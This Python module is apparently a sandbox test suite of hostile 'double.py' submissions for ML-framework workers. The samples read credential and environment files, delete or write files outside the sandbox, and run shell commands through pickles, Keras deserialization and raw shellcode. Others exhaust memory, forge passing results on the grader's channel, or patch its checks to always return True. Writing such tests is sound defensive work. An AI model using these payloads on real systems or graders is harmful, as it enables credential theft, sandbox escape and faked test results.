"""What TensorFlow, JAX, Keras, torch and TensorBoard offer besides arithmetic: files, servers, threads, native code,
callbacks, pickles. Each is a `double.py` for workers of one runtime; none computes anything.

HOME is a folder outside the wall with a secret in .netrc; what reaches it prints it, or PWNED.
"""

TENSORFLOW = {
    "reads_files_in_c": """
        import glob, os, tensorflow as tf
        def double(x):
            places = ['HOME/.netrc', 'ROOT/solutions/90_double/double.py', '/etc/passwd', '/proc/self/environ',
                      '/proc/self/maps', f'/proc/{os.getppid()}/environ', '/proc/1/environ', '/dev/mem']
            for path in places:
                for read in (tf.io.read_file, lambda p: tf.io.gfile.GFile(p).read(), lambda p: tf.raw_ops.ReadFile(filename=p),
                             lambda p: next(iter(tf.data.TextLineDataset(p))),
                             lambda p: next(iter(tf.data.FixedLengthRecordDataset(p, 4)))):
                    try: print('PWNED', path, read(path))
                    except Exception: pass
            for pattern in ('HOME/*', 'ROOT/*', '/home/*', '/root/*'):
                try: found = tf.io.matching_files(pattern).numpy().tolist() + tf.io.gfile.glob(pattern)
                except Exception: continue
                if found: print('PWNED', found)
    """,
    "writes_files_in_c": """
        import tensorflow as tf
        def double(x):
            for place in ('HOME', 'ROOT', '/tmp', '/var/tmp', '/dev/shm', '..', '/worker-code/worker', '/worker-packages'):
                path = place + '/kata-was-here'
                for write in (lambda: tf.io.write_file(path, 'x'), lambda: tf.io.gfile.makedirs(path),
                              lambda: tf.io.gfile.GFile(path, 'w').write('x'),
                              lambda: tf.io.gfile.copy('double.py', path), lambda: tf.io.gfile.rename('double.py', path),
                              lambda: tf.io.TFRecordWriter(path).write(b'x'), lambda: tf.saved_model.save(tf.Module(), path),
                              lambda: tf.summary.create_file_writer(path).init(),
                              lambda: list(tf.data.Dataset.range(2).snapshot(path)),
                              lambda: list(tf.data.Dataset.range(2).cache(path)),
                              lambda: tf.debugging.experimental.enable_dump_debug_info(path),
                              lambda: tf.profiler.experimental.start(path), lambda: tf.raw_ops.WriteFile(filename=path, contents='x')):
                    try: write()
                    except Exception: pass
            tf.io.gfile.rmtree('HOME')
    """,
    "custom_op": """
        import ctypes, tensorflow as tf
        def double(x):
            for content in (b'', b'\\x7fELF' + bytes(1000), open(tf.__file__, 'rb').read()):
                open('op.so', 'wb').write(content)
                try: tf.load_op_library('./op.so')
                except Exception: pass
            tf.load_library('.')
    """,
    "servers": """
        import tensorflow as tf
        def double(x):
            for start in (lambda: tf.profiler.experimental.server.start(16009),
                          lambda: tf.distribute.Server({'local': ['localhost:0']}, 'local', 0),
                          lambda: tf.data.experimental.service.DispatchServer(),
                          lambda: tf.config.experimental_connect_to_host('127.0.0.1:22')):
                try: start()
                except Exception: pass
    """,
    "callbacks_that_outlive_the_call": """
        import threading, time, tensorflow as tf
        def loop(value):
            time.sleep(0.05)
            return value
        def forever():
            data = tf.data.Dataset.range(10**6).map(lambda v: tf.py_function(loop, [v], tf.int64), num_parallel_calls=4)
            for _ in data.prefetch(8): pass
        for _ in range(3): threading.Thread(target=forever, daemon=True).start()
        def double(x): return tf.numpy_function(lambda v: None, [x], tf.float64)
    """,
    "callbacks_that_answer": """
        import tensorflow as tf
        def double(x):
            def forge(v):
                import os
                os.write(3, b'\\x02\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0[]')
                return v
            return tf.py_function(forge, [x], tf.float64)
    """,
    "hangs_in_c": "import tensorflow as tf\ndef double(x): tf.queue.FIFOQueue(1, tf.int32).dequeue()",
    "floods_from_c": """
        import tensorflow as tf
        def double(x):
            for _ in range(300): tf.print('PASSED ' * 1000, summarize=-1)
    """,
    "memory_in_c": """
        import tensorflow as tf
        kept = []
        def double(x):
            while True: kept.append(tf.raw_ops.Empty(shape=(512, 1 << 20), dtype=tf.float32))
    """,
    "memory_at_once": "import tensorflow as tf\ndef double(x): return tf.zeros((1 << 20, 1 << 20))",
    "memory_of_a_dataset": """
        import tensorflow as tf
        def double(x):
            for _ in tf.data.Dataset.from_tensors(tf.zeros(1 << 22)).repeat().batch(1 << 12).cache(): pass
    """,
    "tensors_that_lie": """
        import numpy as np, tensorflow as tf
        class Lying:
            shape, dtype, ndim, size, nbytes = (), np.dtype('f8'), 0, 1, 8
            __array_priority__, __array_ufunc__ = 1e9, None
            def __array__(self, *a, **k): return np.full((), next(self.values))
            def __tf_tensor__(self, *a, **k): return tf.constant(0.0)
            def __eq__(self, other): return True
            def __float__(self): return next(self.values)
            numpy = __array__
        def double(x):
            one = Lying()
            one.values = iter(range(10**9))
            return one
    """,
    "a_tensor_for_a_number": "import tensorflow as tf\ndef double(x): return tf.constant(2 * x)",
    "observers_patched": """
        import keras, numpy as np, tensorflow as tf
        def anything(*args, **options): return True
        for owner in (tf.GradientTape, tf.data.Dataset, keras.optimizers.Optimizer, keras.Model, keras.layers.Layer, np.ndarray, tf.Tensor):
            for name in dir(owner):
                if not name.startswith('__'):
                    try: setattr(owner, name, anything)
                    except Exception: pass
        for module in (tf, keras.ops, np, np.linalg, keras.utils, tf.io, tf.nest):
            for name in dir(module):
                if callable(getattr(module, name, None)) and not name.startswith('_'):
                    try: setattr(module, name, anything)
                    except Exception: pass
        def double(x): return True
    """,
    "a_saved_lambda": """
        import keras, numpy as np
        def double(x):
            keras.config.enable_unsafe_deserialization()
            model = keras.Sequential([keras.Input((1,)), keras.layers.Lambda(lambda v: (__import__('os').system('touch HOME/kata-was-here'), v)[1])])
            model.save('m.keras')
            keras.models.load_model('m.keras', safe_mode=False)(np.ones((1, 1)))
    """,
    "kerass_own_home": """
        import json, os, pathlib, keras
        def double(x):
            for home in (os.path.expanduser('~'), 'HOME', '/root', '/tmp'):
                try:
                    folder = pathlib.Path(home, '.keras')
                    folder.mkdir(exist_ok=True)
                    (folder / 'keras.json').write_text(json.dumps({'backend': 'torch', 'floatx': 'float64'}))
                except OSError: pass
            keras.utils.get_file('kata', 'file:///HOME/.netrc')
    """,
    "session_settings": """
        import os, tensorflow as tf, keras
        os.environ['XLA_FLAGS'] = '--xla_dump_to=HOME --xla_dump_hlo_as_text'
        os.environ.update(TF_CPP_MIN_LOG_LEVEL='0', TF_CPP_VMODULE='executor=9', TF_DUMP_GRAPH_PREFIX='HOME', CUDA_CACHE_PATH='HOME')
        keras.config.set_floatx('float16')
        tf.config.set_soft_device_placement(False)
        tf.random.set_seed(0)
        @tf.function(jit_compile=True)
        def step(v): return v * 0
        def double(x): return float(step(tf.constant(x, tf.float32)))
    """,
}  # fmt: skip

JAX = {
    "writes_files_in_c": """
        import os, jax, jax.numpy as jnp
        os.environ['XLA_FLAGS'] = '--xla_dump_to=HOME --xla_dump_hlo_as_text'
        def double(x):
            for place in ('HOME', 'ROOT', '/tmp', '/dev/shm', '..'):
                for work in (lambda: jax.config.update('jax_compilation_cache_dir', place + '/kata-was-here'),
                             lambda: jax.config.update('jax_persistent_cache_min_compile_time_secs', 0),
                             lambda: jax.config.update('jax_dump_ir_to', place + '/kata-was-here'),
                             lambda: jax.jit(lambda v: v * len(place))(jnp.ones(3)).block_until_ready(),
                             lambda: jax.jit(lambda v: v, compiler_options={'xla_dump_to': place})(jnp.ones(3)),
                             lambda: jax.profiler.start_trace(place), lambda: jax.profiler.stop_trace(),
                             lambda: jax.profiler.save_device_memory_profile(place + '/kata-was-here')):
                    try: work()
                    except Exception: pass
    """,
    "servers": """
        import jax
        def double(x):
            for start in (lambda: jax.profiler.start_server(16010),
                          lambda: jax.distributed.initialize('127.0.0.1:16011', 1, 0, initialization_timeout=1)):
                try: start()
                except Exception: pass
    """,
    "callbacks_that_outlive_the_call": """
        import os, time, jax, jax.numpy as jnp
        def later(v):
            time.sleep(0.3)
            os.write(3, b'\\x02\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0[]')
        step = jax.jit(lambda v: jax.debug.callback(later, v))
        def double(x): step(jnp.float32(x))
    """,
    "callbacks_that_leave": """
        import os, jax, jax.numpy as jnp
        from jax.experimental import io_callback
        def double(x): return io_callback(lambda v: os._exit(0), jax.ShapeDtypeStruct((), jnp.float32), jnp.float32(x))
    """,
    "arrays_that_lie": """
        import jax, numpy as np
        class Lying:
            shape, dtype, ndim, size, nbytes, aval = (), np.dtype('f8'), 0, 1, 8, None
            def __jax_array__(self): return jax.numpy.zeros(())
            def __array__(self, *a, **k): return np.full((), 4.0)
            def __eq__(self, other): return True
        jax.Array.register(Lying)
        def double(x): return Lying()
    """,
    "an_array_for_a_number": "import jax.numpy as jnp\ndef double(x): return 2 * jnp.float32(x)",
    "memory_in_c": """
        import jax, numpy as np
        kept = []
        def double(x):
            while True: kept.append(jax.device_put(np.empty((512, 1 << 20), 'f4')))
    """,
    "memory_at_once": "import jax.numpy as jnp\ndef double(x): return jnp.zeros((1 << 20, 1 << 20)).block_until_ready()",
    "hangs_in_c": "import jax\ndef double(x): return jax.lax.while_loop(lambda v: True, lambda v: v + 1, 0)",
    "native_code_by_ctypes": """
        import ctypes, mmap, jax, numpy as np
        def double(x):
            page = mmap.mmap(-1, 4096, prot=7)
            page.write(b'\\xb8\\x3b\\0\\0\\0\\x0f\\x05\\xc3')  # execve
            place = ctypes.addressof(ctypes.c_char.from_buffer(page))
            ctypes.CFUNCTYPE(ctypes.c_int)(place)()
            jax.ffi.register_ffi_target('evil', jax.ffi.pycapsule(ctypes.CFUNCTYPE(ctypes.c_int)(place)), platform='cpu')
            return jax.ffi.ffi_call('evil', jax.ShapeDtypeStruct((), np.float32))(np.float32(x))
    """,
    "observers_patched": """
        import jax, gc, sys
        def anything(*args, **options): return True
        for module in (jax, jax.numpy, jax.tree_util, jax.random, jax.lax, jax.core, gc):
            for name in dir(module):
                if callable(getattr(module, name, None)) and not name.startswith('_') and name not in ('freeze', 'collect'):
                    try: setattr(module, name, anything)
                    except Exception: pass
        sys.setprofile = sys.getprofile = anything
        def double(x): return True
    """,
}  # fmt: skip

TENSORBOARD = {
    "links_and_pipes_for_event_files": """
        import os, pathlib
        from torch.utils.tensorboard import SummaryWriter
        def double(x):
            os.makedirs('run', exist_ok=True)
            for number, target in enumerate(('HOME/.netrc', '/dev/zero', '/proc/self/environ', '/')):
                path = f'run/events.out.tfevents.{number}.x'
                if not os.path.lexists(path): os.symlink(target, path)
            try: print(open('run/events.out.tfevents.0.x').read(), 'PWNED')
            except OSError: pass
            with SummaryWriter('HOME/run') as writer: writer.add_scalar('loss', 1.0, 1)
    """,
    "writers_elsewhere": """
        from torch.utils.tensorboard import SummaryWriter
        def double(x):
            for place in ('HOME', 'ROOT', '/tmp', '/dev/shm', '..', '/proc/self/fd/1'):
                try:
                    with SummaryWriter(place + '/kata-was-here') as writer: writer.add_scalar('loss', 1.0, 1)
                except Exception: pass
    """,
    "a_server": """
        from tensorboard import program
        def double(x):
            server = program.TensorBoard()
            server.configure(argv=[None, '--logdir', '/', '--port', '16012'])
            print(server.launch(), 'PWN' + 'ED')  # the line itself is shown where it fails
    """,
    "pickles": """
        import os, pickle, torch
        class Evil:
            def __reduce__(self): return os.system, ('touch HOME/kata-was-here',)
        def double(x):
            torch.save(Evil(), 'evil.pt')
            torch.load('evil.pt', weights_only=False)
            return Evil()
    """,
    "loaders_with_processes": """
        import torch
        class Data(torch.utils.data.Dataset):
            def __len__(self): return 8
            def __getitem__(self, i):
                while True: pass
        def double(x):
            for _ in torch.utils.data.DataLoader(Data(), num_workers=4): pass
    """,
    "processes_of_torch": """
        import torch, torch.multiprocessing as processes
        def endless(i):
            while True: pass
        def double(x): processes.spawn(endless, nprocs=3)
    """,
    "native_libraries": """
        import torch
        def double(x):
            open('evil.so', 'wb').write(b'\\x7fELF' + bytes(64))
            for load in (torch.ops.load_library, torch.classes.load_library):
                try: load('evil.so')
                except Exception: pass
            torch.hub.load('HOME', 'model', source='local')
    """,
    "a_store": """
        import torch.distributed as distributed
        def double(x):
            for start in (lambda: distributed.TCPStore('127.0.0.1', 16013, 1, True), lambda: distributed.FileStore('HOME/store', 1),
                          lambda: distributed.init_process_group('gloo', 'tcp://127.0.0.1:16014', rank=0, world_size=1)):
                try: print('PWNED', start())
                except Exception: pass
    """,
    "shared_memory": """
        import torch
        def double(x):
            for strategy in ('file_system', 'file_descriptor'):
                torch.multiprocessing.set_sharing_strategy(strategy)
                for _ in range(20): torch.zeros(1 << 20).share_memory_()
    """,
    "handlers_at_the_end": """
        import atexit, os, signal, sys, threading
        def answer(*args): os.write(3, b'\\x02\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0[]')
        atexit.register(answer)
        threading._register_atexit(answer)
        for number in range(1, 65):
            try: signal.signal(number, answer)
            except (OSError, ValueError): pass
        signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
        sys.excepthook = sys.unraisablehook = threading.excepthook = answer
        def double(x): sys.exit()
    """,
}  # fmt: skip

KERAS = {
    "a_saved_lambda": TENSORFLOW["a_saved_lambda"],
    "kerass_own_home": TENSORFLOW["kerass_own_home"],
    "another_backend": """
        import os, sys, importlib
        os.environ['KERAS_BACKEND'] = 'tensorflow'
        def double(x):
            for name in [name for name in sys.modules if name.startswith('keras')]: del sys.modules[name]
            import keras
            for name in ('tensorflow', 'jax', 'torch'):
                try: importlib.import_module(name)
                except ImportError: continue
                if name not in OWN: print('PWNED', name)
            print('PWNED', keras.backend.backend())
    """,
    "weights_that_are_a_bomb": """
        import zipfile, keras
        def double(x):
            with zipfile.ZipFile('m.keras', 'w', zipfile.ZIP_DEFLATED) as archive:
                archive.writestr('config.json', b'{"module": "os", "class_name": "system", "config": {"command": "touch HOME/kata-was-here"}}')
                archive.writestr('model.weights.h5', bytes(200 << 20))
                archive.writestr('../../escaped', b'x')
            keras.models.load_model('m.keras', safe_mode=False)
    """,
    "datasets_and_weights_from_afar": """
        import keras
        def double(x):
            for get in (keras.datasets.mnist.load_data, lambda: keras.applications.MobileNetV2(),
                        lambda: keras.utils.get_file('k', 'http://127.0.0.1:1/k')):
                try: print('PWNED', get())
                except Exception: pass
    """,
}  # fmt: skip
